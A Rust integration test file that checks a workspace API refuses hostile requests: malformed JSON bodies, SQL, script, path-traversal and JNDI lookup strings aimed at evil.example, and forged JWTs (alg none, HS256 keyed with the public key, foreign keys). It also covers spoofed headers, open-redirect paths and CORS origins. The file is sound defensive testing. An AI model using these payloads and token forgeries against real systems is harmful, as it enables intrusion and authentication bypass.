//! Requests that mean no good, or make no sense. Whatever comes, the answer is one of the contract's, and nothing
//! changes.

use std::time::Duration;

use axum::body::Body;
use axum::http::Request;
use axum::http::request::Builder;
use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use jsonwebtoken::{Algorithm, EncodingKey};
use serde_json::{Value, json};
use shared::auth::keys::SigningKey;
use shared::config::SecretSource;
use shared::secret::Secret;
use tower::ServiceExt;
use utoipa_axum::router::OpenApiRouter;

use crate::harness::{Answer, PASSWORD, Person, World, operations};
use crate::invariants::read_but_limits;

const BODY_BYTES_MAX: usize = 64 * 1024;
const UNKNOWN: &str = "00000000-0000-7000-8000-000000000000";

/// What holds of every answer, and of every refusal besides.
#[track_caller]
pub fn proper(answer: Answer) -> Answer {
    assert!(answer.status.as_u16() < 500, "{}: {}", answer.status, answer.text);
    let id = answer.header("x-request-id").unwrap();
    assert!(uuid::Uuid::try_parse(id).is_ok(), "{id}");
    assert_eq!(answer.header("cache-control"), Some("no-store"));
    if !answer.body.is_null() {
        assert_eq!(answer.header("x-content-type-options"), Some("nosniff"));
    }
    if answer.status.is_client_error() {
        let code = answer.body["error_code"].as_str().unwrap_or_default().to_owned();
        return answer.clone().refused(answer.status.as_u16(), &code);
    }
    answer
}

/// A world with an owner, a member, and an invitation.
struct Scene<'w> {
    owner: Person<'w>,
    member: Person<'w>,
    invitation: Answer,
}

impl<'w> Scene<'w> {
    async fn new(world: &'w World) -> Self {
        let owner = world.owner("owner").await;
        let member = world.joins(&owner, "member", "member").await;
        let invitation = owner.invite("guest@example.com", "member").await.expect(201);
        Self {
            owner,
            member,
            invitation,
        }
    }

    /// The id that a path is about, which exists.
    fn id(&self, path: &str) -> String {
        if path.contains("{user_id}") {
            self.member.id.clone()
        } else {
            self.invitation.id()
        }
    }
}

/// Bodies that no route takes, whatever its fields are.
fn hostile_bodies(fields: &[String]) -> Vec<(String, Vec<u8>)> {
    let texts = [
        "",
        "  \r\n",
        "x",
        "{",
        "[]",
        "null",
        "1",
        "\"text\"",
        "{}{}",
        "{\"a\":1,}",
        "{'a':1}",
        "NaN",
        "\u{feff}{}",
        "\0",
        "{\"a\":\"b\0\"}",
        "{\"a\":\"\\ud800\"}",
        "{\"a\":1e999}",
        "{\"a\":-1e999}",
        "{\"a\":.1}",
        "{\"a\":01}",
    ];
    let mut bodies: Vec<(String, Vec<u8>)> = texts
        .iter()
        .map(|text| (format!("{text:?}"), text.as_bytes().into()))
        .collect();
    bodies.push(("no UTF-8".to_owned(), b"\xff\xfe{}".to_vec()));
    bodies.push(("no UTF-8 inside".to_owned(), b"{\"a\":\"\xff\"}".to_vec()));
    bodies.push(("60,000 lists".to_owned(), "[".repeat(60_000).into_bytes()));
    bodies.push(("10,000 objects".to_owned(), "{\"a\":".repeat(10_000).into_bytes()));
    bodies.push(("as large as may be".to_owned(), " ".repeat(BODY_BYTES_MAX).into_bytes()));
    let huge = format!("1{}", "0".repeat(300));
    for wrong in ["1", "-1", "1.5", "true", "[\"a\"]", "{\"a\":1}", huge.as_str()] {
        let all: Vec<String> = fields.iter().map(|field| format!("{field:?}:{wrong}")).collect();
        bodies.push((
            format!("every field {wrong:.20}"),
            format!("{{{}}}", all.join(",")).into_bytes(),
        ));
        bodies.push((
            format!("every field {wrong:.20}, twice"),
            format!("{{{},{}}}", all.join(","), all.join(",")).into_bytes(),
        ));
    }
    bodies
}

#[tokio::test]
async fn a_body_that_is_none_is_told_so_and_changes_nothing() {
    let world = World::new().await;
    let scene = Scene::new(&world).await;
    let before = read_but_limits(&world).await;
    for operation in operations() {
        let Some(fields) = &operation.fields else { continue };
        assert!(!fields.is_empty(), "{} has no fields", operation.name());
        let path = operation.about(&scene.id(&operation.path));
        let caller = if operation.open {
            scene.owner.signed_out()
        } else {
            scene.owner.clone()
        };
        for (name, body) in hostile_bodies(fields) {
            let answer = caller.raw(&operation.method, &path, body).await;
            assert_eq!(answer.status, 422, "{} {name}: {}", operation.name(), answer.text);
            let faults = proper(answer).faults();
            assert!(
                faults.iter().all(|fault| fault.starts_with("body")),
                "{} {name}: {faults:?}",
                operation.name()
            );
        }
    }
    assert_eq!(read_but_limits(&world).await, before);
}

#[tokio::test]
async fn a_strange_text_is_taken_for_what_it_is() {
    let world = World::new().await;
    let scene = Scene::new(&world).await;
    let before = read_but_limits(&world).await;
    let texts = [
        "",
        " ",
        "\0",
        "\u{202e}",
        "\u{1f4a5}",
        "' OR 1=1 --",
        "USER#1",
        "../../etc/passwd",
        "${jndi:ldap://evil.example}",
        "%00",
        "<script>alert(1)</script>",
        "a@b@c",
        "=1+1",
        "{{7*7}}",
    ];
    let long = "a".repeat(20_000);
    for operation in operations() {
        let Some(fields) = &operation.fields else { continue };
        let path = operation.about(&scene.id(&operation.path));
        let caller = if operation.open {
            scene.owner.signed_out()
        } else {
            scene.owner.clone()
        };
        for text in texts.into_iter().chain([long.as_str()]) {
            let body: Value = fields
                .iter()
                .map(|field| (field.clone(), json!(text)))
                .collect::<serde_json::Map<_, _>>()
                .into();
            let answer = proper(caller.call(&operation.method, &path, Some(body)).await);
            assert!(
                answer.status.is_client_error(),
                "{} {text:?}: {}",
                operation.name(),
                answer.text
            );
        }
    }
    assert_eq!(read_but_limits(&world).await, before);
}

#[tokio::test]
async fn a_body_beyond_the_limit_is_refused_before_all_else() {
    let world = World::new().await;
    let scene = Scene::new(&world).await;
    let before = read_but_limits(&world).await;
    for operation in operations() {
        for caller in [scene.owner.clone(), scene.owner.signed_out()] {
            let path = operation.about(&scene.id(&operation.path));
            let answer = caller
                .raw(&operation.method, &path, vec![b' '; BODY_BYTES_MAX + 1])
                .await;
            proper(answer).refused(413, "PAYLOAD_TOO_LARGE");
        }
    }
    assert_eq!(read_but_limits(&world).await, before);
}

#[tokio::test]
async fn a_body_where_none_is_needed_is_not_looked_at() {
    let world = World::new().await;
    let scene = Scene::new(&world).await;
    for operation in operations().into_iter().filter(|operation| operation.fields.is_none()) {
        for body in ["", "{", "[1]", "\u{0}"] {
            if operation.method == "GET" {
                proper(scene.owner.raw("GET", &operation.path, body).await.expect(200));
            } else {
                let answer = scene
                    .owner
                    .signed_out()
                    .raw(&operation.method, &operation.about(UNKNOWN), body)
                    .await;
                proper(answer).refused(401, "TOKEN_MISSING");
            }
        }
    }
}

/// The parts of a token: header and claims.
pub fn opened(token: &str) -> (Value, Value) {
    let mut parts = token.split('.').map(|part| URL_SAFE_NO_PAD.decode(part).unwrap());
    let (header, claims) = (parts.next().unwrap(), parts.next().unwrap());
    (
        serde_json::from_slice(&header).unwrap(),
        serde_json::from_slice(&claims).unwrap(),
    )
}

pub fn unsigned(header: &Value, claims: &Value) -> String {
    format!(
        "{}.{}",
        URL_SAFE_NO_PAD.encode(header.to_string()),
        URL_SAFE_NO_PAD.encode(claims.to_string())
    )
}

pub fn signed(header: &Value, claims: &Value, key: &EncodingKey, algorithm: Algorithm) -> String {
    let message = unsigned(header, claims);
    let signature = jsonwebtoken::crypto::sign(message.as_bytes(), key, algorithm).unwrap();
    format!("{message}.{signature}")
}

/// `value` with some members replaced.
pub fn with(value: &Value, changes: Value) -> Value {
    let mut value = value.clone();
    let Value::Object(changes) = changes else {
        panic!("changes are an object")
    };
    for (name, change) in changes {
        if change.is_null() {
            value.as_object_mut().unwrap().remove(&name);
        } else {
            value[name] = change;
        }
    }
    value
}

pub fn signing_key(world: &World) -> SigningKey {
    let Some(SecretSource::Value(seed)) = &world.app.config.signing_secret else {
        panic!("a world has a seed")
    };
    SigningKey::from_seed(seed).unwrap()
}

#[tokio::test]
#[expect(clippy::too_many_lines, reason = "a table: one row an attack")]
async fn no_token_but_ours_opens_anything() {
    let world = World::new().await;
    let ann = world.owner("ann").await;
    let token = ann.access.clone().unwrap();
    let (header, claims) = opened(&token);
    let key = signing_key(&world);
    let sign = |header: &Value, claims: &Value| signed(header, claims, key.encoding_key(), Algorithm::EdDSA);
    let now = world.clock.now().as_seconds();
    let jwks = ann.get("/.well-known/jwks.json").await;
    let public = jwks.body["keys"][0]["x"].as_str().unwrap().to_owned();
    let other_key = SigningKey::from_seed(&Secret::new("another seed")).unwrap();
    let (message, signature) = token.rsplit_once('.').unwrap();
    let (head, _) = message.split_once('.').unwrap();
    let mut flipped = URL_SAFE_NO_PAD.decode(signature).unwrap();
    flipped[0] ^= 1;
    let hs256 = |secret: &[u8]| {
        let header = with(&header, json!({"alg": "HS256"}));
        signed(&header, &claims, &EncodingKey::from_secret(secret), Algorithm::HS256)
    };
    let header_change = |change| sign(&with(&header, change), &claims);
    let claims_change = |change| sign(&header, &with(&claims, change));
    let none = with(&header, json!({"alg": "none"}));

    let valid = [
        sign(&header, &claims),
        claims_change(json!({"exp": now - 3})),
        claims_change(json!({"nbf": now + 3, "iat": now + 3})),
        claims_change(json!({"unknown": 1})),
    ];
    for token in valid {
        let ann = Person {
            access: Some(token.clone()),
            ..ann.clone()
        };
        ann.get("/auth/me").await.expect(200);
    }

    let invalid = [
        ("nothing", String::new()),
        ("one part", "a".to_owned()),
        ("three parts", "a.b.c".to_owned()),
        ("empty parts", "..".to_owned()),
        ("four parts", format!("{token}.a")),
        ("8 KB", "a".repeat(8192)),
        ("8 KB of a token", format!("{token}{}", "A".repeat(8192))),
        ("8 KB of claims", claims_change(json!({"padding": "a".repeat(8192)}))),
        ("no signature", message.to_owned()),
        ("an empty signature", format!("{message}.")),
        (
            "a flipped signature",
            format!("{message}.{}", URL_SAFE_NO_PAD.encode(flipped)),
        ),
        (
            "another claim",
            format!(
                "{head}.{}.{signature}",
                URL_SAFE_NO_PAD.encode(with(&claims, json!({"uep": 1})).to_string())
            ),
        ),
        ("padding", format!("{message}.{signature}==")),
        ("alg none", unsigned(&none, &claims) + "."),
        ("alg none, signed", format!("{}.{signature}", unsigned(&none, &claims))),
        (
            "alg NONE",
            unsigned(&with(&header, json!({"alg": "NONE"})), &claims) + ".",
        ),
        (
            "no alg",
            format!(
                "{}.{signature}",
                unsigned(&with(&header, json!({"alg": null})), &claims)
            ),
        ),
        (
            "HS256 with the public key",
            hs256(&URL_SAFE_NO_PAD.decode(&public).unwrap()),
        ),
        ("HS256 with the public key's text", hs256(public.as_bytes())),
        ("HS256 with the JWK set", hs256(jwks.text.as_bytes())),
        ("HS256 with nothing", hs256(b"")),
        ("alg RS256", header_change(json!({"alg": "RS256"}))),
        (
            "another key",
            signed(&header, &claims, other_key.encoding_key(), Algorithm::EdDSA),
        ),
        (
            "another key and its kid",
            signed(
                &with(&header, json!({"kid": other_key.kid()})),
                &claims,
                other_key.encoding_key(),
                Algorithm::EdDSA,
            ),
        ),
        (
            "another key, sent along",
            signed(
                &with(&header, json!({"jwk": {"kty": "OKP"}})),
                &claims,
                other_key.encoding_key(),
                Algorithm::EdDSA,
            ),
        ),
        ("unknown kid", header_change(json!({"kid": "unknown"}))),
        ("no kid", header_change(json!({"kid": null}))),
        ("a kid that is a path", header_change(json!({"kid": "../../dev/null"}))),
        ("a kid that is a number", header_change(json!({"kid": 1}))),
        ("typ JWT", header_change(json!({"typ": "JWT"}))),
        ("no typ", header_change(json!({"typ": null}))),
        ("crit", header_change(json!({"crit": ["exp"]}))),
        ("another issuer", claims_change(json!({"iss": "https://evil.example"}))),
        ("no issuer", claims_change(json!({"iss": null}))),
        ("another audience", claims_change(json!({"aud": "another"}))),
        ("no audience", claims_change(json!({"aud": null}))),
        ("expired", claims_change(json!({"exp": now - 6}))),
        ("expired long ago", claims_change(json!({"exp": 0}))),
        ("no expiry", claims_change(json!({"exp": null}))),
        ("an expiry that is a text", claims_change(json!({"exp": "9999999999"}))),
        ("an expiry beyond numbers", claims_change(json!({"exp": 1e300}))),
        ("not yet valid", claims_change(json!({"nbf": now + 10}))),
        ("a beginning that is a text", claims_change(json!({"nbf": "0"}))),
        ("issued in the future", claims_change(json!({"iat": now + 10}))),
        ("no subject", claims_change(json!({"sub": null}))),
        ("a subject that is none", claims_change(json!({"sub": "USER#1"}))),
        ("a refresh token", ann.refresh.clone()),
    ];
    for (name, token) in invalid {
        let ann = Person {
            access: Some(token),
            ..ann.clone()
        };
        for path in ["/auth/me", "/workspaces/"] {
            let answer = ann.get(path).await;
            assert_eq!(answer.status, 401, "{name}: {}", answer.text);
            proper(answer).refused(401, "TOKEN_INVALID");
        }
    }
    for (name, token) in [
        ("nobody", claims_change(json!({"sub": UNKNOWN}))),
        ("no session of theirs", claims_change(json!({"sid": UNKNOWN}))),
        ("another epoch", claims_change(json!({"uep": 1}))),
        ("another epoch of the workspace", claims_change(json!({"wep": 1}))),
    ] {
        let ann = Person {
            access: Some(token),
            ..ann.clone()
        };
        let answer = ann.get("/auth/me").await;
        assert_eq!(answer.status, 401, "{name}: {}", answer.text);
        proper(answer).refused(401, "TOKEN_REVOKED");
    }
    for (token, code) in [
        (token.as_str(), "TOKEN_INVALID"),
        ("", "TOKEN_INVALID"),
        (&"A".repeat(9000), "TOKEN_INVALID"),
    ] {
        let answer = ann
            .signed_out()
            .post("/auth/refresh", json!({"refresh_token": token}))
            .await;
        proper(answer).refused(401, code);
    }
    ann.workspace().await.expect(200);
}

async fn send(world: &World, request: Builder) -> Answer {
    world
        .send(request.body(Body::empty()).unwrap(), [10, 9, 9, 9].into())
        .await
}

fn get(path: &str) -> Builder {
    Request::builder().method("GET").uri(path)
}

#[tokio::test]
async fn only_one_bearer_header_authenticates() {
    let world = World::new().await;
    let ann = world.owner("ann").await;
    let token = ann.access.clone().unwrap();
    let bearer = format!("Bearer {token}");
    let me = "/api/v1/auth/me";
    for scheme in ["Bearer", "bearer", "BEARER"] {
        send(&world, get(me).header("authorization", format!("{scheme} {token}")))
            .await
            .expect(200);
    }
    let twice = get(me)
        .header("authorization", &bearer)
        .header("authorization", &bearer);
    proper(send(&world, twice).await).refused(401, "TOKEN_INVALID");
    let beside = get(me)
        .header("authorization", &bearer)
        .header("authorization", "Basic YTpi");
    proper(send(&world, beside).await).refused(401, "TOKEN_INVALID");
    for header in [
        "Basic YTpi",
        "Bearer",
        "Bearer ",
        &token,
        "Token x",
        "",
        &format!("Bearer {token}, Bearer {token}"),
        &format!("Bearer {token} x"),
    ] {
        let answer = proper(send(&world, get(me).header("authorization", header)).await);
        answer.refused(401, "TOKEN_INVALID");
    }
    let binary = axum::http::HeaderValue::from_bytes(b"Bearer \xff\xfe").unwrap();
    proper(send(&world, get(me).header("authorization", binary)).await).refused(401, "TOKEN_INVALID");
    let elsewhere = [
        get(&format!("{me}?access_token={token}")),
        get(&format!("{me}?token={token}")),
        get(me).header("x-api-key", &token),
        get(me).header("cookie", format!("access_token={token}")),
        get(me).header("proxy-authorization", &bearer),
    ];
    for request in elsewhere {
        proper(send(&world, request).await).refused(401, "TOKEN_MISSING");
    }
}

#[tokio::test]
async fn a_query_that_makes_no_sense_is_told_so() {
    let world = World::new().await;
    let scene = Scene::new(&world).await;
    let far = "9".repeat(40);
    let long = "A".repeat(6000);
    let numbers = [
        "",
        "-1",
        "abc",
        "1.5",
        "1e3",
        "%00",
        "%ff",
        "0x10",
        "\u{0661}",
        far.as_str(),
    ];
    let numbers = numbers.map(|number| {
        if number.is_ascii() {
            number.to_owned()
        } else {
            "%D9%A1".to_owned()
        }
    });
    let cursors = [
        "",
        "x",
        "%00",
        "%ff",
        "..%2F..",
        "AAAAAAAAAAAAAAAAAAAAAAAA",
        long.as_str(),
    ];
    for (path, too_many, names) in [
        ("/workspaces/members", "501", &["limit"] as &[&str]),
        ("/workspaces/invitations", "101", &["limit", "offset"]),
    ] {
        for name in names {
            for number in &numbers {
                let answer = scene.owner.get(&format!("{path}?{name}={number}")).await;
                assert_eq!(answer.status, 422, "{path} {name}={number}: {}", answer.text);
                assert_eq!(proper(answer).faults(), [format!("query.{name}")]);
            }
        }
        for limit in ["0", too_many] {
            let answer = scene.owner.get(&format!("{path}?limit={limit}")).await;
            assert_eq!(proper(answer).faults(), ["query.limit"], "{limit}");
        }
        for cursor in cursors {
            let answer = scene.owner.get(&format!("{path}?cursor={cursor}")).await;
            assert_eq!(answer.status, 422, "{path} cursor={cursor:.30}: {}", answer.text);
            assert_eq!(proper(answer).faults(), ["query.cursor"]);
        }
        let both = scene.owner.get(&format!("{path}?limit=0&cursor=x")).await;
        assert_eq!(proper(both).faults(), ["query.cursor", "query.limit"]);
        for harmless in ["?", "?&&&=", "?unknown=1", "?limit=1&unknown", "?limit=1&limit=1"] {
            proper(scene.owner.get(&format!("{path}{harmless}")).await.expect(200));
        }
    }
}

#[tokio::test]
async fn an_unknown_path_is_404_and_another_method_405() {
    let world = World::new().await;
    let scene = Scene::new(&world).await;
    let unknown = [
        "/",
        "/api",
        "/api/v1",
        "/api/v1/workspace",
        "/api/v1/workspaces/members/a/b",
        "/api/v2/workspaces",
        "/API/V1/WORKSPACES",
        "/api/v1/workspaces/..%2Fmembers",
        "/api/v1/auth",
        "/docs",
        "/_local/mailbox",
        "/favicon.ico",
        "/api/v1//workspaces",
        "/%2e%2e/%2e%2e/etc/passwd",
        "/api/v1/workspaces%00",
    ];
    for path in unknown {
        let answer = send(&world, get(path)).await;
        assert_eq!(answer.status, 404, "{path}: {}", answer.text);
        proper(answer).refused(404, "NOT_FOUND");
    }
    let operations = operations();
    let mut paths: Vec<&str> = operations.iter().map(|operation| operation.path.as_str()).collect();
    paths.dedup();
    for path in paths {
        let methods = operations
            .iter()
            .filter(|operation| operation.path == path)
            .map(|operation| operation.method.as_str());
        let methods: Vec<&str> = methods.collect();
        for method in ["GET", "PUT", "POST", "PATCH", "DELETE", "OPTIONS", "TRACE", "PURGE"] {
            if methods.contains(&method) {
                continue;
            }
            let about = path.replace("{user_id}", &scene.member.id).replace("{id}", UNKNOWN);
            let answer = scene.owner.raw(method, &about, "").await;
            assert_eq!(answer.status, 405, "{method} {path}: {}", answer.text);
            let mut allowed: Vec<&str> = answer.header("allow").unwrap().split(',').map(str::trim).collect();
            allowed.retain(|method| *method != "HEAD");
            allowed.sort_unstable();
            let mut expected = methods.clone();
            expected.sort_unstable();
            assert_eq!(allowed, expected, "{method} {path}");
            proper(answer).refused(405, "METHOD_NOT_ALLOWED");
        }
    }
    proper(scene.owner.raw("POST", "/workspaces", "").await).refused(422, "VALIDATION_ERROR");
    proper(scene.owner.get("/workspaces").await.expect(200));
}

#[tokio::test]
async fn an_id_that_is_none_is_an_unknown_one() {
    let world = World::new().await;
    let scene = Scene::new(&world).await;
    let id = scene.invitation.id();
    let compact = id.replace('-', "");
    for id in [
        "1",
        "-",
        "%00",
        "%ff",
        "%2F",
        "..",
        "null",
        "USER%231",
        "{id}",
        &compact,
        &format!("{id}x"),
        &format!("%7B{id}%7D"),
        &"a".repeat(4000),
    ] {
        let id = id.replace('{', "%7B").replace('}', "%7D");
        for (method, path, code) in [
            ("PATCH", format!("/workspaces/members/{id}"), "MEMBER_NOT_FOUND"),
            ("DELETE", format!("/workspaces/members/{id}"), "MEMBER_NOT_FOUND"),
            ("PATCH", format!("/workspaces/invitations/{id}"), "INVITATION_NOT_FOUND"),
            (
                "DELETE",
                format!("/workspaces/invitations/{id}"),
                "INVITATION_NOT_FOUND",
            ),
            (
                "POST",
                format!("/workspaces/invitations/{id}/resend"),
                "INVITATION_NOT_FOUND",
            ),
        ] {
            let body =
                json!({"role": "member", "expires_at": world.clock.now().plus(Duration::from_secs(3600)).to_string()});
            let answer = proper(scene.owner.call(method, &path, Some(body)).await);
            assert_eq!(answer.status, 404, "{method} {path:.80}: {}", answer.text);
            answer.refused(404, code);
        }
    }
    // What a UUID is written in makes no difference.
    proper(scene.owner.cancel(&id.to_uppercase()).await.expect(200));
}

#[tokio::test]
async fn a_trailing_slash_leads_to_the_path_without_it_and_never_elsewhere() {
    let world = World::new().await;
    let owner = world.owner("owner").await;
    for operation in operations() {
        if operation.path.ends_with('/') {
            continue;
        }
        let path = operation.about(UNKNOWN);
        for query in ["", "?limit=1&cursor=a%2Fb"] {
            let answer = owner.raw(&operation.method, &format!("{path}/{query}"), "").await;
            assert_eq!(answer.status, 308, "{path}: {}", answer.text);
            assert_eq!(answer.header("location"), Some(format!("{path}{query}").as_str()));
            proper(answer);
        }
    }
    proper(owner.get("/api/v1/workspaces/").await.expect(200));
    let elsewhere = [
        "//evil.example/",
        "///evil.example/",
        "//evil.example/%2e%2e/",
        "/%5Cevil.example/",
        "/%2F/evil.example/",
        "//evil.example//",
        "/%09/evil.example/",
        "/@evil.example/",
        "/.evil.example/",
        "//evil.example/?a=b",
        "/evil.example/%0d%0aLocation:x/",
    ];
    for path in elsewhere {
        let answer = proper(send(&world, get(path).header("host", "evil.example")).await);
        if let Some(location) = answer.header("location") {
            assert!(
                location.starts_with('/') && !location.starts_with("//") && !location.contains('\\'),
                "{path} leads to {location}"
            );
        } else {
            assert_eq!(answer.status, 404, "{path}");
        }
    }
}

#[tokio::test]
async fn checks_come_in_the_order_of_the_contract() {
    let world = World::new().await;
    let owner = world.owner("owner").await;
    let manager = world.joins(&owner, "manager", "manager").await;
    let member = world.joins(&owner, "member", "member").await;
    let mut none = world.joins(&owner, "none", "member").await;
    owner.remove(&none.id).await.expect(200);
    none.log_in().await;
    let nobody = world.stranger("nobody");
    let (unknown, garbage) = (format!("/workspaces/members/{UNKNOWN}"), "{");
    let large = vec![b'{'; BODY_BYTES_MAX + 1];

    let forged = Person {
        access: Some("a.b.c".to_owned()),
        ..owner.clone()
    };
    proper(nobody.raw("PATCH", &unknown, large.clone()).await).refused(413, "PAYLOAD_TOO_LARGE");
    proper(forged.raw("PATCH", &unknown, large).await).refused(413, "PAYLOAD_TOO_LARGE");
    proper(nobody.raw("PATCH", &unknown, garbage).await).refused(401, "TOKEN_MISSING");
    proper(forged.raw("PATCH", &unknown, garbage).await).refused(401, "TOKEN_INVALID");
    let mut ended = member.clone();
    ended.log_in().await;
    ended.post("/auth/logout", json!({})).await.expect(200);
    proper(ended.raw("PATCH", &unknown, garbage).await).refused(401, "TOKEN_REVOKED");
    ended.log_in().await;
    let member = ended;
    proper(none.raw("PATCH", &unknown, garbage).await).refused(404, "WORKSPACE_NOT_FOUND");
    proper(member.raw("PATCH", &unknown, garbage).await).refused(403, "FORBIDDEN");
    proper(member.get("/workspaces/invitations?limit=0").await).refused(403, "FORBIDDEN");
    proper(none.get("/workspaces/members?limit=0").await).refused(404, "WORKSPACE_NOT_FOUND");
    proper(manager.raw("PATCH", &unknown, garbage).await).refused(422, "VALIDATION_ERROR");
    proper(manager.raw("PATCH", &unknown, r#"{"role":"owner"}"#).await).refused(404, "MEMBER_NOT_FOUND");
    proper(manager.raw("PATCH", &unknown, r#"{"role":"king"}"#).await).refused(404, "MEMBER_NOT_FOUND");
    let on_owner = format!("/workspaces/members/{}", owner.id);
    proper(manager.raw("PATCH", &on_owner, r#"{"role":"king"}"#).await).refused(403, "FORBIDDEN");
    proper(owner.raw("PATCH", &on_owner, r#"{"role":"king"}"#).await).refused(400, "INVALID_ROLE");

    let invitations = "/workspaces/invitations";
    proper(none.raw("POST", invitations, garbage).await).refused(404, "WORKSPACE_NOT_FOUND");
    proper(member.raw("POST", invitations, garbage).await).refused(403, "FORBIDDEN");
    proper(manager.raw("POST", invitations, garbage).await).refused(422, "VALIDATION_ERROR");
    // Whoever is refused by a rule has used a call all the same; by form or rank, none.
    for _ in 0..10 {
        proper(manager.invite(&manager.email, "member").await).refused(400, "SELF_INVITE");
    }
    proper(manager.raw("POST", invitations, garbage).await).refused(422, "VALIDATION_ERROR");
    proper(manager.invite("guest@example.com", "owner").await).refused(403, "FORBIDDEN");
    proper(manager.invite(&manager.email, "member").await).refused(429, "RATE_LIMITED");
    proper(manager.invite("no address", "member").await).refused(429, "RATE_LIMITED");
    proper(manager.invite("guest@example.com", "king").await).refused(429, "RATE_LIMITED");
    proper(manager.resend(UNKNOWN).await).refused(404, "INVITATION_NOT_FOUND");
    let for_owner = owner.invite("guest@example.com", "owner").await.expect(201).id();
    proper(manager.resend(&for_owner).await).refused(403, "FORBIDDEN");
    proper(
        manager
            .raw("PATCH", &format!("{invitations}/{for_owner}"), garbage)
            .await,
    )
    .refused(422, "VALIDATION_ERROR");
    proper(manager.extend(UNKNOWN, "2000-01-01T00:00:00Z").await).refused(404, "INVITATION_NOT_FOUND");
    proper(manager.extend(&for_owner, "2000-01-01T00:00:00Z").await).refused(403, "FORBIDDEN");
    proper(owner.extend(&for_owner, "2000-01-01T00:00:00Z").await).refused(400, "INVALID_EXPIRY");
}

#[tokio::test]
async fn a_browser_elsewhere_reads_nothing_unless_its_origin_is_named() {
    let world = World::new().await;
    let ann = world.owner("ann").await;
    let preflight = |origin: &str| {
        Request::builder()
            .method("OPTIONS")
            .uri("/api/v1/workspaces/members")
            .header("origin", origin)
            .header("access-control-request-method", "PATCH")
            .header("access-control-request-headers", "authorization,content-type")
    };
    let cors = |answer: &Answer| {
        answer
            .headers
            .keys()
            .any(|name| name.as_str().starts_with("access-control-"))
    };
    let read = send(
        &world,
        ann.request("GET", "/workspaces/")
            .header("origin", "https://app.example"),
    )
    .await;
    assert!(!cors(&read), "{:?}", read.headers);
    let answer = send(&world, preflight("https://app.example")).await;
    assert!(!cors(&answer), "{:?}", answer.headers);
    proper(answer).refused(405, "METHOD_NOT_ALLOWED");

    let world = World::with(|config| config.allowed_origins = vec!["https://app.example".to_owned()]).await;
    let ann = world.owner("ann").await;
    for person in [ann.clone(), ann.signed_out()] {
        let answer = proper(
            send(
                &world,
                person
                    .request("GET", "/workspaces/")
                    .header("origin", "https://app.example"),
            )
            .await,
        );
        assert_eq!(
            answer.header("access-control-allow-origin"),
            Some("https://app.example")
        );
        assert_eq!(answer.header("access-control-allow-credentials"), None);
        let mut exposed: Vec<String> = answer
            .header("access-control-expose-headers")
            .unwrap()
            .split(',')
            .map(|name| name.trim().to_lowercase())
            .collect();
        exposed.sort();
        assert_eq!(
            exposed,
            ["etag", "ratelimit", "ratelimit-policy", "retry-after", "x-request-id"]
        );
        assert!(answer.header("vary").unwrap().to_lowercase().contains("origin"));
    }
    let answer = proper(send(&world, preflight("https://app.example")).await);
    assert!(answer.status.is_success(), "{}", answer.status);
    assert_eq!(
        answer.header("access-control-allow-origin"),
        Some("https://app.example")
    );
    let methods = answer.header("access-control-allow-methods").unwrap();
    for method in ["GET", "POST", "PUT", "PATCH", "DELETE"] {
        assert!(methods.contains(method), "{methods}");
    }
    let headers = answer.header("access-control-allow-headers").unwrap().to_lowercase();
    assert!(
        headers.contains("authorization") && headers.contains("content-type"),
        "{headers}"
    );
    for origin in [
        "https://evil.example",
        "https://app.example.evil.example",
        "http://app.example",
        "https://app.example:444",
        "null",
    ] {
        let read = send(&world, ann.request("GET", "/workspaces/").header("origin", origin))
            .await
            .expect(200);
        assert_eq!(read.header("access-control-allow-origin"), None, "{origin}");
        let answer = send(&world, preflight(origin)).await;
        assert_eq!(answer.header("access-control-allow-origin"), None, "{origin}");
    }
}

#[tokio::test]
async fn what_a_client_says_of_itself_is_not_believed() {
    let world = World::new().await;
    let ann = world.owner("ann").await;
    let mut request = ann.request("POST", "/workspaces/invitations");
    for name in ["host", "x-forwarded-host", "forwarded", "x-original-host"] {
        request = request.header(name, "evil.example");
    }
    let body = json!({"email": "guest@example.com"}).to_string();
    let issued = world
        .send(request.body(Body::from(body)).unwrap(), ann.address)
        .await
        .expect(201);
    let link = issued.body["invite_link"].as_str().unwrap();
    assert!(link.starts_with("https://api.example.com/invite#invite_id="), "{link}");
    assert!(!issued.text.contains("evil"));

    let request = ann
        .request("GET", "/workspaces/")
        .header("x-request-id", "mine")
        .header("x-http-method-override", "DELETE");
    let answer = proper(send(&world, request).await.expect(200));
    assert_ne!(answer.header("x-request-id"), Some("mine"));

    let guesser = world.stranger("guesser");
    for number in 0..61 {
        let request = guesser.request("POST", "/auth/invitation");
        let request = request
            .header("x-forwarded-for", format!("192.0.2.{number}"))
            .header("x-real-ip", format!("192.0.2.{number}"));
        let body = json!({"invite_id": UNKNOWN, "token": "x"}).to_string();
        let answer = world
            .send(request.body(Body::from(body)).unwrap(), guesser.address)
            .await;
        if number < 60 {
            proper(answer).refused(404, "INVITATION_NOT_FOUND");
        } else {
            proper(answer).refused(429, "RATE_LIMITED");
        }
    }
}

#[tokio::test]
async fn every_answer_has_the_headers_that_it_must_have() {
    let world = World::new().await;
    let scene = Scene::new(&world).await;
    for operation in operations() {
        let path = operation.about(&scene.id(&operation.path));
        for person in [scene.owner.clone(), scene.owner.signed_out()] {
            if operation.method != "GET" && !operation.open && person.access.is_some() {
                continue;
            }
            proper(person.call(&operation.method, &path, None).await);
        }
    }
    let answers = [
        scene.owner.put("/workspaces/", json!({"name": "Name"})).await,
        scene.owner.invite("another@example.com", "member").await,
        scene.owner.change_role(&scene.member.id, "manager").await,
        scene
            .owner
            .signed_out()
            .post("/auth/login", json!({"email": scene.owner.email, "password": PASSWORD}))
            .await,
        scene.owner.revoke_all().await,
    ];
    for answer in answers {
        assert!(proper(answer).status.is_success());
    }
}

#[tokio::test]
async fn a_panic_is_answered_as_any_error_and_tells_nothing() {
    let world = World::with(|config| config.allowed_origins = vec!["https://app.example".to_owned()]).await;
    let broken = || async { "hunter2".parse::<u8>().expect("the password is hunter2").to_string() };
    let routes = OpenApiRouter::from(axum::Router::new().route("/broken", axum::routing::get(broken)));
    let request = Request::get("/broken").header("origin", "https://app.example");
    let response = shared::http::finish(routes, world.app.clone())
        .oneshot(request.body(Body::empty()).unwrap())
        .await
        .unwrap();
    let answer = Answer::read(response).await;
    assert!(!answer.text.contains("hunter2"), "{}", answer.text);
    assert!(uuid::Uuid::try_parse(answer.header("x-request-id").unwrap()).is_ok());
    assert_eq!(
        answer.header("access-control-allow-origin"),
        Some("https://app.example")
    );
    answer.refused(500, "INTERNAL_ERROR");
